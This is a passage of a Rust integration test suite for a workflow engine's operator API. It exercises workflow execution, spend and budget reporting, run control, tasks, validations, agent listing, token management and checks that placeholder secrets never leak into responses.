//! The operator API over real HTTP on loopback, with a real SQLite file, the
//! real engine and the built-in `command` agent: every endpoint, every role
//! rule, the OpenAPI description, the metrics scrape and the alert rules.

mod github_world;
mod harness;

use std::collections::{BTreeSet, HashMap};
use std::sync::Arc;
use std::time::{Duration, Instant};
use taskmaster::store::RunId;

use reqwest::{Method, StatusCode};
use secrecy::ExposeSecret;
use serde_json::{Value, json};
use taskmaster::agent::{AgentRegistry, AgentsConfig};
use taskmaster::api::{self, ApiState, auth};
use taskmaster::engine::intake::RoutingHandler;
use taskmaster::engine::{Engine, EngineConfig};
use taskmaster::server::{self, RunningServer, ServerConfig};
use taskmaster::store::prelude::*;
use taskmaster::store::{self, ActorKind, Role};
use taskmaster::webhook::WebhookSecrets;
use taskmaster::workflow::WorkflowSet;
use tokio_util::sync::CancellationToken;

/// Values that must never appear in an answer.
const SECRETS: &[&str] = &["pa55word", "topsecretkey", "sekrit-codegen-token"];

const WORKFLOW: &str = r#"
name: review
on: { pull_request: { actions: [opened] } }
steps:
  check: { agent: command, with: { run: ["sh", "-c", "echo checked {{ pr.number }}"] } }
  report: { agent: command, needs: check, with: { run: ["sh", "-c", "echo reported"] } }
"#;

const DEPLOY_WORKFLOW: &str = r#"
name: deploy
on: { pull_request: { actions: [opened] } }
inputs:
  deploy_command: { description: "How to deploy", default: "true" }
  note: { description: "A note for the prompt", default: "" }
steps:
  ship: { agent: command, with: { run: ["sh", "-c", "{{ inputs.deploy_command }}"] } }
"#;

const SLOW_WORKFLOW: &str = r#"
name: slow
on: { issues: { actions: [opened] } }
steps:
  wait: { agent: command, with: { run: ["sh", "-c", "sleep 30"] } }
"#;

struct Api {
    base: String,
    client: reqwest::Client,
    store: Arc<dyn RunStore>,
    tokens: HashMap<Role, String>,
    running: Option<RunningServer>,
    stop: CancellationToken,
    _dir: tempfile::TempDir,
}

fn lookup(name: &str) -> Option<String> {
    match name {
        "CLAUDE_CODE_ENDPOINT" => {
            Some("http://agent:pa55word@127.0.0.1:9/agentapi?key=topsecretkey".into())
        }
        "CODEGEN_API_TOKEN" => Some("sekrit-codegen-token-123".into()),
        "CODEGEN_ORG_ID" => Some("1".into()),
        _ => None,
    }
}

impl Api {
    async fn start() -> Api {
        Self::start_with(None).await
    }

    /// With `github` checking what callers say about pull requests.
    async fn start_with(github: Option<Arc<dyn taskmaster::github::GitHub>>) -> Api {
        let dir = tempfile::tempdir().unwrap();
        let wf_dir = dir.path().join("workflows");
        std::fs::create_dir(&wf_dir).unwrap();
        std::fs::write(wf_dir.join("review.yml"), WORKFLOW).unwrap();
        std::fs::write(wf_dir.join("slow.yml"), SLOW_WORKFLOW).unwrap();
        std::fs::write(wf_dir.join("deploy.yml"), DEPLOY_WORKFLOW).unwrap();
        let config = AgentsConfig::load(None, &lookup).unwrap();
        let registry = AgentRegistry::new(&config, &lookup).unwrap();
        let names: Vec<String> = registry.names().map(str::to_owned).collect();
        let names: Vec<&str> = names.iter().map(String::as_str).collect();
        let workflows = Arc::new(WorkflowSet::load_dir(&wf_dir, &names).unwrap());
        let db = dir.path().join("api.db");
        let store = store::connect_runs(&format!("sqlite://{}", db.display()))
            .await
            .unwrap();
        let engine = Engine::new(
            store.clone(),
            workflows.clone(),
            Arc::new(registry),
            EngineConfig {
                poll: Duration::from_millis(50),
                shutdown_grace: Duration::from_secs(1),
                // A budget no test spends (command steps cost nothing):
                // `/api/spend` and the budget metrics have one to show.
                budgets: taskmaster::budget::Budgets {
                    global_month: taskmaster::budget::Limits {
                        usd: Some(100.0),
                        attempts: Some(100_000),
                        agent_minutes: None,
                    },
                    ..Default::default()
                },
                ..EngineConfig::default()
            },
        );
        let stop = CancellationToken::new();
        tokio::spawn(engine.clone().run(stop.clone()));
        taskmaster::instrument::handle();
        let running = server::start_with(
            ServerConfig {
                addr: "127.0.0.1:0".parse().unwrap(),
                secrets: WebhookSecrets::parse(harness::SECRET).unwrap(),
                store: store.clone(),
                handler: Arc::new(RoutingHandler::new(
                    store.clone(),
                    workflows,
                    Some(engine.clone()),
                )),
                limits: Default::default(),
            },
            api::service(match github {
                Some(g) => ApiState::new(engine, false).with_github(g),
                None => ApiState::new(engine, false),
            }),
        )
        .await
        .unwrap();
        let mut tokens = HashMap::new();
        for role in Role::ALL {
            let (secret, _) = auth::create_token(
                &*store,
                *role,
                Some(&format!("{role}-token")),
                (ActorKind::System, "test"),
            )
            .await
            .unwrap();
            tokens.insert(*role, secret.secret.expose_secret().to_owned());
        }
        Api {
            base: format!("http://{}", running.local_addr),
            client: taskmaster::agent::http_client_builder().build().unwrap(),
            store,
            tokens,
            running: Some(running),
            stop,
            _dir: dir,
        }
    }

    async fn call(
        &self,
        role: Option<Role>,
        method: Method,
        path: &str,
        body: Option<Value>,
    ) -> (StatusCode, Value) {
        let mut req = self.client.request(method, format!("{}{path}", self.base));
        if let Some(role) = role {
            req = req.bearer_auth(&self.tokens[&role]);
        }
        if let Some(body) = body {
            req = req.json(&body);
        }
        let resp = req.send().await.unwrap();
        let status = resp.status();
        let ctype = resp
            .headers()
            .get("content-type")
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default();
        let text = resp.text().await.unwrap();
        for s in SECRETS {
            assert!(!text.contains(s), "{path} leaked a secret: {text}");
        }
        if status.is_client_error() || status.is_server_error() {
            assert_eq!(ctype, "application/problem+json", "{path}: {text}");
        }
        let value = serde_json::from_str(&text).unwrap_or(Value::String(text));
        (status, value)
    }

    #[track_caller]
    fn token(&self, role: Role) -> &str {
        &self.tokens[&role]
    }

    async fn execute(&self, workflow: &str, number: u64) -> Value {
        let body = if workflow == "slow" {
            json!({"workflow": workflow, "repository": "octo/repo", "issue_number": number})
        } else {
            json!({"workflow": workflow, "repository": "octo/repo", "pr_number": number,
                   "context": {"title": "fix: login crash", "head_sha": "a".repeat(40)}})
        };
        let (status, run) = self
            .call(
                Some(Role::Operator),
                Method::POST,
                "/api/workflows/execute",
                Some(body),
            )
            .await;
        assert_eq!(status, StatusCode::CREATED, "{run}");
        run
    }

    async fn wait_for_state(&self, id: i64, states: &[&str]) -> Value {
        let deadline = Instant::now() + Duration::from_secs(20);
        loop {
            let (status, detail) = self
                .call(
                    Some(Role::Viewer),
                    Method::GET,
                    &format!("/api/workflows/{id}"),
                    None,
                )
                .await;
            assert_eq!(status, StatusCode::OK);
            if states.contains(&detail["run"]["state"].as_str().unwrap()) {
                return detail;
            }
            assert!(Instant::now() < deadline, "run {id} stuck: {detail}");
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn stop(mut self) {
        self.stop.cancel();
        self.running.take().unwrap().stop().await.unwrap();
    }
}

#[tokio::test]
async fn insights_analyse_the_window_and_runs_keep_their_prediction() {
    let api = Api::start().await;
    let run = api.execute("review", 11).await;
    let id = run["id"].as_i64().unwrap();
    let detail = api.wait_for_state(id, &["succeeded"]).await;
    // Predicted at creation: no history yet, so from the steps' timeouts
    // (or a default); a finished run needs nothing more.
    let basis = detail["prediction"]["basis"].as_str().unwrap();
    assert!(["timeout", "default"].contains(&basis), "{detail}");
    assert!(
        detail["prediction"]["p50_ms"].as_i64().unwrap() > 0,
        "{detail}"
    );
    assert!(detail["expected"].is_null(), "{detail}");
    let (status, insights) = api
        .call(
            Some(Role::Viewer),
            Method::GET,
            "/api/insights?days=7",
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{insights}");
    assert_eq!(insights["days"], 7);
    let review = insights["analytics"]["workflows"]
        .as_array()
        .unwrap()
        .iter()
        .find(|w| w["name"] == "review")
        .unwrap_or_else(|| panic!("{insights}"));
    assert_eq!(review["runs"], 1);
    assert_eq!(review["success_rate"], 1.0);
    assert!(
        review["duration"]["p50_ms"].as_i64().is_some(),
        "{insights}"
    );
    assert!(
        insights["analytics"]["steps"]
            .as_array()
            .unwrap()
            .iter()
            .any(|s| s["workflow"] == "review" && s["success_rate"] == 1.0),
        "{insights}"
    );
    assert_eq!(insights["accuracy"][0]["workflow"], "review", "{insights}");
    // One run is no evidence: no advice.
    assert_eq!(insights["advice"], json!([]), "{insights}");
    let (status, filtered) = api
        .call(
            Some(Role::Viewer),
            Method::GET,
            "/api/insights?workflow=deploy",
            None,
        )
        .await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(filtered["analytics"]["workflows"], json!([]), "{filtered}");
    for bad in [
        "/api/insights?days=0",
        "/api/insights?days=91",
        "/api/insights?nope=1",
    ] {
        let (status, problem) = api.call(Some(Role::Viewer), Method::GET, bad, None).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{bad}: {problem}");
    }
    api.stop().await;
}

#[tokio::test]
async fn spend_is_shown_per_day_and_repository_with_what_is_left_of_the_budgets() {
    let api = Api::start().await;
    let run = api.execute("review", 9).await;
    let detail = api
        .wait_for_state(run["id"].as_i64().unwrap(), &["succeeded"])
        .await;
    assert_eq!(detail["attempts"][0]["cost_estimated"], false);
    assert!(detail["run"]["stopped_by_budget"].is_null());
    let (status, spend) = api
        .call(Some(Role::Viewer), Method::GET, "/api/spend?days=7", None)
        .await;
    assert_eq!(status, StatusCode::OK, "{spend}");
    let rows = spend["rows"].as_array().unwrap();
    let repo = rows
        .iter()
        .find(|r| r["repository"] == "octo/repo")
        .unwrap_or_else(|| panic!("{spend}"));
    assert!(repo["attempts"].as_i64().unwrap() >= 1, "{spend}");
    let global = spend["budgets"]
        .as_array()
        .unwrap()
        .iter()
        .find(|b| b["scope"] == "global_month")
        .unwrap_or_else(|| panic!("{spend}"));
    assert_eq!(global["limit_usd"], 100.0);
    assert_eq!(global["spent_usd"], 0.0);
    assert_eq!(global["used"], 0.0);
    let (status, problem) = api
        .call(Some(Role::Viewer), Method::GET, "/api/spend?days=0", None)
        .await;
    assert_eq!(status, StatusCode::BAD_REQUEST, "{problem}");
    let (status, _) = api.call(None, Method::GET, "/api/spend", None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    let text = api
        .client
        .get(format!("{}/api/metrics", api.base))
        .bearer_auth(api.token(Role::Viewer))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        text.contains("taskmaster_budget_used_ratio{scope=\"global_month\",key=\"\"} 0.000000"),
        "{text}"
    );
    assert!(
        text.contains(
            "taskmaster_budget_remaining_usd{scope=\"global_month\",key=\"\"} 100.000000"
        ),
        "{text}"
    );
    api.stop().await;
}

#[tokio::test]
async fn execute_runs_a_workflow_to_the_end_and_shows_it() {
    let api = Api::start().await;
    let run = api.execute("review", 7).await;
    assert_eq!(run["workflow"], "review");
    assert_eq!(run["subject_number"], 7);
    assert!(run["delivery_id"].as_str().unwrap().starts_with("api:"));
    assert_eq!(run["classification"]["task_type"], "bugfix");
    let id = run["id"].as_i64().unwrap();
    let detail = api.wait_for_state(id, &["succeeded", "failed"]).await;
    assert_eq!(detail["run"]["state"], "succeeded", "{detail}");
    assert_eq!(detail["steps"].as_array().unwrap().len(), 2);
    assert!(
        detail["steps"][0]["output"]
            .as_str()
            .unwrap()
            .contains("checked 7")
    );
    assert_eq!(detail["attempts"].as_array().unwrap().len(), 2);
    assert!(
        detail["timeline"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "run_finished")
    );
    // The audit log names the token.
    let (_, audit) = api
        .call(Some(Role::Admin), Method::GET, "/api/audit", None)
        .await;
    let entry = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["action"] == "run.execute")
        .unwrap();
    assert_eq!(entry["actor"], "operator-token");
    assert_eq!(entry["actor_kind"], "api_token");
    assert_eq!(entry["target"], format!("run:{id}"));
    // No step changed files: no `changes`.
    assert!(detail["changes"].is_null(), "{detail}");
    // A harvested change shows with its files, diff and state.
    let change = taskmaster::workspace::Change {
        base_sha: "b".repeat(40),
        files: vec![taskmaster::workspace::ChangedFile {
            path: "src/lib.rs".into(),
            status: taskmaster::workspace::FileStatus::Modified,
            old_mode: Some("100644".into()),
            new_mode: Some("100644".into()),
            sha: Some("c".repeat(40)),
            size: 12,
            additions: 1,
            deletions: 1,
            binary: false,
        }],
        additions: 1,
        deletions: 1,
        diff: "--- a/src/lib.rs\n+++ b/src/lib.rs\n@@ -1 +1 @@\n-a\n+b\n".into(),
        ..Default::default()
    };
    api.store
        .record_change(RunId(id), "check", &change, None)
        .await
        .unwrap();
    let (_, detail) = api
        .call(
            Some(Role::Viewer),
            Method::GET,
            &format!("/api/workflows/{id}"),
            None,
        )
        .await;
    let changes = &detail["changes"];
    assert_eq!(changes["state"], "pending", "{detail}");
    assert_eq!(changes["step"], "check");
    assert_eq!(changes["files"][0]["path"], "src/lib.rs");
    assert_eq!(changes["files"][0]["status"], "modified");
    assert_eq!(changes["additions"], 1);
    assert!(changes["diff"].as_str().unwrap().contains("+b"));
    assert!(changes.get("blobs").is_none());
    api.stop().await;
}

#[tokio::test]
async fn execute_refuses_invalid_requests_with_problems() {
    let api = Api::start().await;
    let op = Some(Role::Operator);
    let path = "/api/workflows/execute";
    // An unknown workflow is not found.
    let (status, problem) = api
        .call(
            op,
            Method::POST,
            path,
            Some(json!({"workflow": "nope", "repository": "o/r", "pr_number": 1})),
        )
        .await;
    assert_eq!(status, StatusCode::NOT_FOUND, "{problem}");
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("no workflow named `nope`")
    );
    for (body, needle) in [
        (
            json!({"workflow": "review", "repository": "o/r", "pr_number": 1, "issue_number": 2}),
            "not both",
        ),
        (
            json!({"workflow": "review", "repository": "o/r"}),
            "needs a subject",
        ),
        (
            json!({"workflow": "review", "repository": "not a repo", "pr_number": 1}),
            "owner/name",
        ),
        (
            json!({"workflow": "review", "repository": "o/r", "pr_number": 1, "extra": 1}),
            "unknown field",
        ),
        (
            json!({"workflow": "review", "repository": "o/r", "pr_number": 1,
                   "context": {"head_sha": "xyz"}}),
            "40 hex",
        ),
        (
            json!({"workflow": "review", "repository": "o/r", "pr_number": 1,
                   "context": {"inputs": {"nope": "1"}}}),
            "no input `nope`",
        ),
    ] {
        let (status, problem) = api.call(op, Method::POST, path, Some(body)).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{problem}");
        assert_eq!(problem["status"], 400);
        assert!(
            problem["detail"].as_str().unwrap().contains(needle),
            "{problem}"
        );
    }
    // Not JSON at all, and not declared as JSON.
    let resp = api
        .client
        .post(format!("{}{path}", api.base))
        .bearer_auth(api.token(Role::Operator))
        .header("content-type", "application/json")
        .body("{not json")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::BAD_REQUEST);
    let resp = api
        .client
        .post(format!("{}{path}", api.base))
        .bearer_auth(api.token(Role::Operator))
        .body("{}")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNSUPPORTED_MEDIA_TYPE);
    // Refusals are audited too.
    let (_, audit) = api
        .call(Some(Role::Admin), Method::GET, "/api/audit?limit=200", None)
        .await;
    assert!(
        audit["items"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["action"] == "run.execute" && e["outcome"] == "refused")
    );
    api.stop().await;
}

#[tokio::test]
async fn runs_are_listed_filtered_and_paginated_and_unknown_ones_are_404() {
    let api = Api::start().await;
    let mut ids = Vec::new();
    for n in 1..=3 {
        ids.push(api.execute("review", n).await["id"].as_i64().unwrap());
    }
    let v = Some(Role::Viewer);
    let (_, page) = api
        .call(v, Method::GET, "/api/workflows?limit=2", None)
        .await;
    let items = page["items"].as_array().unwrap();
    assert_eq!(items.len(), 2);
    assert_eq!(items[0]["id"], ids[2], "newest first");
    let cursor = page["next_cursor"].as_str().unwrap().to_owned();
    let (_, page2) = api
        .call(
            v,
            Method::GET,
            &format!("/api/workflows?limit=2&cursor={cursor}"),
            None,
        )
        .await;
    assert_eq!(page2["items"].as_array().unwrap().len(), 1);
    assert_eq!(page2["items"][0]["id"], ids[0]);
    assert!(page2["next_cursor"].is_null());

    let (_, filtered) = api
        .call(
            v,
            Method::GET,
            "/api/workflows?workflow=slow&repository=octo/repo",
            None,
        )
        .await;
    assert_eq!(filtered["items"].as_array().unwrap().len(), 0);
    let (_, filtered) = api
        .call(v, Method::GET, "/api/workflows?workflow=review", None)
        .await;
    assert_eq!(filtered["items"].as_array().unwrap().len(), 3);

    for (path, status) in [
        ("/api/workflows?state=bogus", StatusCode::BAD_REQUEST),
        ("/api/workflows?limit=0", StatusCode::BAD_REQUEST),
        ("/api/workflows?limit=201", StatusCode::BAD_REQUEST),
        ("/api/workflows?cursor=abc", StatusCode::BAD_REQUEST),
        ("/api/workflows?colour=red", StatusCode::BAD_REQUEST),
        ("/api/workflows/999999", StatusCode::NOT_FOUND),
        ("/api/workflows/abc", StatusCode::BAD_REQUEST),
        ("/api/no-such-thing", StatusCode::NOT_FOUND),
    ] {
        let (got, problem) = api.call(v, Method::GET, path, None).await;
        assert_eq!(got, status, "{path}: {problem}");
    }
    let (got, _) = api.call(v, Method::PATCH, "/api/workflows/1", None).await;
    assert_eq!(got, StatusCode::METHOD_NOT_ALLOWED);
    api.stop().await;
}

#[tokio::test]
async fn pause_resume_cancel_and_retry_are_idempotent_and_audited() {
    let api = Api::start().await;
    let op = Some(Role::Operator);
    let id = api.execute("slow", 1).await["id"].as_i64().unwrap();
    api.wait_for_state(id, &["running"]).await;
    let path = |op: &str| format!("/api/workflows/{id}/{op}");

    let (s, r) = api.call(op, Method::PUT, &path("pause"), None).await;
    assert_eq!(
        (s, r["changed"].as_bool()),
        (StatusCode::OK, Some(true)),
        "{r}"
    );
    let (_, r) = api.call(op, Method::PUT, &path("pause"), None).await;
    assert_eq!(r["changed"], false);
    let (_, r) = api.call(op, Method::PUT, &path("resume"), None).await;
    assert_eq!(r["changed"], true);
    let (_, r) = api.call(op, Method::PUT, &path("resume"), None).await;
    assert_eq!(r["changed"], false);
    let (s, r) = api
        .call(op, Method::DELETE, &format!("/api/workflows/{id}"), None)
        .await;
    assert_eq!(
        (s, r["changed"].as_bool()),
        (StatusCode::OK, Some(true)),
        "{r}"
    );
    let detail = api.wait_for_state(id, &["cancelled"]).await;
    assert_eq!(detail["steps"][0]["state"], "cancelled");
    let (_, r) = api
        .call(op, Method::DELETE, &format!("/api/workflows/{id}"), None)
        .await;
    assert_eq!(r["changed"], false);

    let (s, p) = api
        .call(
            op,
            Method::POST,
            &path("retry"),
            Some(json!({"step": "nope"})),
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{p}");
    let (s, r) = api
        .call(
            op,
            Method::POST,
            &path("retry"),
            Some(json!({"step": "wait"})),
        )
        .await;
    assert_eq!(
        (s, r["changed"].as_bool()),
        (StatusCode::OK, Some(true)),
        "{r}"
    );
    // A retry with no body retries what failed; cancel again to finish.
    api.wait_for_state(id, &["running", "queued"]).await;
    let (s, _) = api.call(op, Method::POST, &path("retry"), None).await;
    assert_eq!(s, StatusCode::OK);
    api.call(op, Method::DELETE, &format!("/api/workflows/{id}"), None)
        .await;
    for verb in ["pause", "resume"] {
        let (s, _) = api
            .call(
                op,
                Method::PUT,
                &format!("/api/workflows/424242/{verb}"),
                None,
            )
            .await;
        assert_eq!(s, StatusCode::NOT_FOUND);
    }

    let (_, audit) = api
        .call(Some(Role::Admin), Method::GET, "/api/audit?limit=200", None)
        .await;
    let actions: Vec<(String, String)> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["actor"] == "operator-token")
        .map(|e| {
            (
                e["action"].as_str().unwrap().to_owned(),
                e["outcome"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for expected in [
        ("run.pause", "ok"),
        ("run.pause", "noop"),
        ("run.resume", "ok"),
        ("run.cancel", "ok"),
        ("run.cancel", "noop"),
        ("run.retry", "refused"),
        ("run.retry", "ok"),
    ] {
        assert!(
            actions.contains(&(expected.0.into(), expected.1.into())),
            "{expected:?} missing from {actions:?}"
        );
    }
    api.stop().await;
}

#[tokio::test]
async fn tasks_are_classified_updated_linked_and_paginated() {
    let api = Api::start().await;
    let dev = Some(Role::Developer);
    let (s, task) = api
        .call(
            dev,
            Method::POST,
            "/api/tasks",
            Some(
                json!({"text": "fix: the login page crashes\n\n- [ ] no crash on empty password",
                        "repository": "octo/repo"}),
            ),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{task}");
    assert_eq!(task["title"], "fix: the login page crashes");
    assert_eq!(task["classification"]["task_type"], "bugfix");
    assert_eq!(task["source"], "api");
    assert_eq!(task["created_by"], "developer-token");
    let id = task["id"].as_i64().unwrap();

    let (s, p) = api
        .call(
            Some(Role::Viewer),
            Method::GET,
            &format!("/api/tasks/{id}/workflow"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{p}");

    // A task about a PR finds the newest run on that PR without a link.
    let (_, on_pr) = api
        .call(
            dev,
            Method::POST,
            "/api/tasks",
            Some(
                json!({"text": "review the login fix", "repository": "octo/repo", "pr_number": 11}),
            ),
        )
        .await;
    let pr_run = api.execute("review", 11).await;
    let (s, wf) = api
        .call(
            Some(Role::Viewer),
            Method::GET,
            &format!("/api/tasks/{}/workflow", on_pr["id"]),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{wf}");
    assert_eq!(wf["run"]["id"], pr_run["id"]);

    let run = api.execute("review", 9).await;
    let (s, updated) = api
        .call(
            dev,
            Method::PUT,
            &format!("/api/tasks/{id}"),
            Some(json!({"state": "in_progress", "run_id": run["id"]})),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{updated}");
    assert_eq!(updated["state"], "in_progress");
    let (s, wf) = api
        .call(
            Some(Role::Viewer),
            Method::GET,
            &format!("/api/tasks/{id}/workflow"),
            None,
        )
        .await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(wf["run"]["id"], run["id"]);

    let (_, re) = api
        .call(
            dev,
            Method::PUT,
            &format!("/api/tasks/{id}"),
            Some(json!({"text": "feat: dark mode"})),
        )
        .await;
    assert_eq!(re["classification"]["task_type"], "feature");
    assert_eq!(re["run_id"], run["id"], "untouched fields stay");

    for (method, path, body, status) in [
        (
            Method::POST,
            "/api/tasks".to_string(),
            json!({"text": "  "}),
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::POST,
            "/api/tasks".to_string(),
            json!({"text": "x", "issue_number": 3}),
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::PUT,
            format!("/api/tasks/{id}"),
            json!({"state": "nope"}),
            StatusCode::BAD_REQUEST,
        ),
        (
            Method::PUT,
            format!("/api/tasks/{id}"),
            json!({"run_id": 999999}),
            StatusCode::NOT_FOUND,
        ),
        (
            Method::PUT,
            "/api/tasks/999999".to_string(),
            json!({"state": "done"}),
            StatusCode::NOT_FOUND,
        ),
    ] {
        let (got, p) = api.call(dev, method, &path, Some(body)).await;
        assert_eq!(got, status, "{path}: {p}");
    }
    for n in 0..3 {
        api.call(
            dev,
            Method::POST,
            "/api/tasks",
            Some(json!({"text": format!("task {n}"), "repository": "octo/other", "issue_number": n + 1})),
        )
        .await;
    }
    let (_, page) = api
        .call(
            dev,
            Method::GET,
            "/api/tasks?limit=2&repository=octo/other",
            None,
        )
        .await;
    assert_eq!(page["items"].as_array().unwrap().len(), 2);
    assert_eq!(page["items"][0]["source"], "issue");
    let cursor = page["next_cursor"].as_str().unwrap();
    let (_, page) = api
        .call(
            dev,
            Method::GET,
            &format!("/api/tasks?limit=2&repository=octo/other&cursor={cursor}"),
            None,
        )
        .await;
    assert_eq!(page["items"].as_array().unwrap().len(), 1);
    let (_, open) = api
        .call(dev, Method::GET, "/api/tasks?state=in_progress", None)
        .await;
    assert_eq!(open["items"].as_array().unwrap().len(), 1);
    api.stop().await;
}

#[tokio::test]
async fn validations_are_recorded_with_evidence_and_read_back() {
    let api = Api::start().await;
    let dev = Some(Role::Developer);
    let run = api.execute("review", 4).await;
    let (s, v) = api
        .call(
            dev,
            Method::POST,
            "/api/validations",
            Some(json!({"run_id": run["id"], "step": "check", "kind": "tests", "verdict": "fail",
                        "summary": "2 tests fail", "evidence": [{"test": "login::empty", "log": "panic"}]})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{v}");
    let id = v["id"].as_i64().unwrap();
    let (_, got) = api
        .call(dev, Method::GET, &format!("/api/validations/{id}"), None)
        .await;
    assert_eq!(got["evidence"][0]["test"], "login::empty");
    assert_eq!(got["created_by"], "developer-token");
    api.call(
        dev,
        Method::POST,
        "/api/validations",
        Some(json!({"kind": "security_audit", "verdict": "pass", "summary": "clean"})),
    )
    .await;
    let (_, list) = api
        .call(
            dev,
            Method::GET,
            &format!("/api/validations?run_id={}", run["id"]),
            None,
        )
        .await;
    assert_eq!(list["items"].as_array().unwrap().len(), 1);
    let (_, list) = api
        .call(dev, Method::GET, "/api/validations?limit=1", None)
        .await;
    assert_eq!(list["items"][0]["kind"], "security_audit");
    assert!(list["next_cursor"].is_string());
    for (body, needle) in [
        (
            json!({"kind": "vibes", "verdict": "pass", "summary": "x"}),
            "kind",
        ),
        (
            json!({"kind": "tests", "verdict": "maybe", "summary": "x"}),
            "verdict",
        ),
        (
            json!({"kind": "tests", "verdict": "pass", "summary": ""}),
            "summary",
        ),
        (
            json!({"kind": "tests", "verdict": "pass", "summary": "x", "run_id": run["id"], "step": "zzz"}),
            "no step",
        ),
        (
            json!({"kind": "tests", "verdict": "pass", "summary": "x", "step": "check"}),
            "needs `run_id`",
        ),
    ] {
        let (s, p) = api
            .call(dev, Method::POST, "/api/validations", Some(body))
            .await;
        assert_eq!(s, StatusCode::BAD_REQUEST, "{p}");
        assert!(p["detail"].as_str().unwrap().contains(needle), "{p}");
    }
    // A run that does not exist is not found.
    let (s, p) = api
        .call(
            dev,
            Method::POST,
            "/api/validations",
            Some(json!({"kind": "tests", "verdict": "pass", "summary": "x", "run_id": 999999})),
        )
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND, "{p}");
    let (s, _) = api
        .call(dev, Method::GET, "/api/validations/999999", None)
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    let (s, _) = api
        .call(dev, Method::GET, "/api/validations?verdict=meh", None)
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    api.stop().await;
}

#[tokio::test]
async fn agents_show_kind_endpoint_health_and_circuit_but_no_secret() {
    let api = Api::start().await;
    let (s, agents) = api
        .call(Some(Role::Viewer), Method::GET, "/api/agents", None)
        .await;
    assert_eq!(s, StatusCode::OK);
    let by_name: HashMap<&str, &Value> = agents
        .as_array()
        .unwrap()
        .iter()
        .map(|a| (a["name"].as_str().unwrap(), a))
        .collect();
    let claude = by_name["claude-code"];
    assert_eq!(claude["kind"], "agentapi");
    assert_eq!(claude["endpoint"], "http://127.0.0.1:9/agentapi");
    assert_eq!(claude["health"]["reachable"], false);
    assert_eq!(claude["circuit"], "closed");
    assert_eq!(by_name["command"]["kind"], "command");
    assert!(by_name["command"]["endpoint"].is_null());
    assert_eq!(by_name["codegen"]["kind"], "codegen");
    // (The call helper already checked that no secret value appears.)
    api.stop().await;
}

#[tokio::test]
async fn tokens_are_managed_by_admins_and_revoked_ones_are_refused() {
    let api = Api::start().await;
    let admin = Some(Role::Admin);
    let (s, created) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "viewer", "name": "grafana"})),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{created}");
    let secret = created["token"].as_str().unwrap().to_owned();
    assert!(secret.starts_with("tm_"));
    let (s, _) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "viewer", "name": "grafana"})),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
    let (s, _) = api
        .call(
            admin,
            Method::POST,
            "/api/tokens",
            Some(json!({"role": "god"})),
        )
        .await;
    assert_eq!(s, StatusCode::BAD_REQUEST);
    let (_, list) = api.call(admin, Method::GET, "/api/tokens", None).await;
    let text = list.to_string();
    assert!(!text.contains(&secret[3..]), "a secret is listed");
    for t in api.tokens.values() {
        assert!(!text.contains(&t[12..]), "a secret is listed");
    }
    assert!(!text.contains("hash"));
    let get = |token: String| {
        let client = api.client.clone();
        let url = format!("{}/api/workflows", api.base);
        async move {
            client
                .get(url)
                .bearer_auth(token)
                .send()
                .await
                .unwrap()
                .status()
        }
    };
    assert_eq!(get(secret.clone()).await, StatusCode::OK);
    let (s, revoked) = api
        .call(admin, Method::DELETE, "/api/tokens/grafana", None)
        .await;
    assert_eq!(s, StatusCode::OK);
    assert!(revoked["revoked_at"].is_i64());
    assert_eq!(get(secret).await, StatusCode::UNAUTHORIZED);
    assert_eq!(
        get(format!("tm_{}", "0".repeat(64))).await,
        StatusCode::UNAUTHORIZED
    );
    let resp = api
        .client
        .get(format!("{}/api/workflows", api.base))
        .header("authorization", "Basic Zm9vOmJhcg==")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
    assert!(resp.headers().contains_key("www-authenticate"));
    let (s, _) = api
        .call(admin, Method::DELETE, "/api/tokens/nobody", None)
        .await;
    assert_eq!(s, StatusCode::NOT_FOUND);
    api.stop().await;
}

/// Every route of the OpenAPI description, with the permission it needs
/// (`None`: public).
fn route_table(
    run: i64,
    task: i64,
    validation: i64,
) -> Vec<(Method, String, Option<Value>, Option<auth::Permission>)> {
    use auth::Permission::*;
    let exec = json!({"workflow": "review", "repository": "octo/repo", "pr_number": 1});
    vec![
        (Method::GET, "/api/health".into(), None, None),
        (Method::GET, "/api/ready".into(), None, None),
        (Method::GET, "/api/openapi.json".into(), None, None),
        (Method::GET, "/api/metrics".into(), None, Some(Read)),
        (
            Method::POST,
            "/api/workflows/execute".into(),
            Some(exec),
            Some(Execute),
        ),
        (Method::GET, "/api/workflows".into(), None, Some(Read)),
        (
            Method::GET,
            format!("/api/workflows/{run}"),
